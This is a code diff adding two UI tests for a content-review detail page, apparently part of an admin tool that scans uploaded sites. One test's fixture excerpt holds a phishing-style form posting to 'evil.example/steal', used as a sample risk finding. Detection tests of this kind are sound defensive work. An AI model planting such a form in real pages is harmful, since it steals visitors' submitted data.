@@ -61,6 +61,43 @@ describe('review detail page', () => {
     expect(screen.getByRole('figure', { name: /最近 30 天访问量/ })).toBeInTheDocument();
   });
 
+  it('opens a finding at its line with the excerpt, and lists usability findings apart with how to fix them', async () => {
+    const { user } = await openDetail();
+    await user.click(await screen.findByRole('button', { name: 'index.html:12' }));
+    const dialog = await screen.findByRole('dialog');
+    expect(within(dialog).getByLabelText('index.html:12 摘录')).toHaveTextContent(
+      '12<form method="post" action="https://evil.example/steal">',
+    );
+    // The usability finding is not in the risk table but in its own list, with its fix.
+    expect(screen.getByRole('heading', { name: '可用性问题（1）' })).toBeInTheDocument();
+    expect(screen.getByText(/修改方法：压缩图片和视频/)).toBeInTheDocument();
+    const table = document.querySelector('.check-findings')!;
+    expect(table.textContent).not.toContain('文件较大');
+  });
+
+  it('never says “no problems” in green: a report without risk findings says what the check covers', async () => {
+    const base = makeDetail();
+    const check = base.content_check!;
+    await openDetail({
+      'GET /admin/projects/7': ok({
+        ...base,
+        content_check: {
+          ...check,
+          level: 'clean',
+          counts: { high: 0, medium: 0, low: 0, info: 0 },
+          findings: check.findings.filter((f) => f.category === 'usability'),
+        },
+      }),
+    });
+    expect((await screen.findAllByText('自动检查未发现已知风险')).length).toBeGreaterThan(0);
+    expect(screen.getByText('自动检查涵盖')).toBeInTheDocument();
+    expect(screen.getByText('不涵盖')).toBeInTheDocument();
+    expect(screen.getByText(/图片、视频中的文字与内容/)).toBeInTheDocument();
+    expect(screen.queryByText('自动检查未发现问题')).toBeNull();
+    expect(screen.queryByText('未发现问题')).toBeNull();
+    expect(document.querySelector('.check-clean.ant-alert-success')).toBeNull();
+  });
+
   it('asks for a decision before submitting: 请选择审核状态', async () => {
     const { api, user } = await openDetail();
     await user.click(await screen.findByRole('button', { name: '提交审核' }));
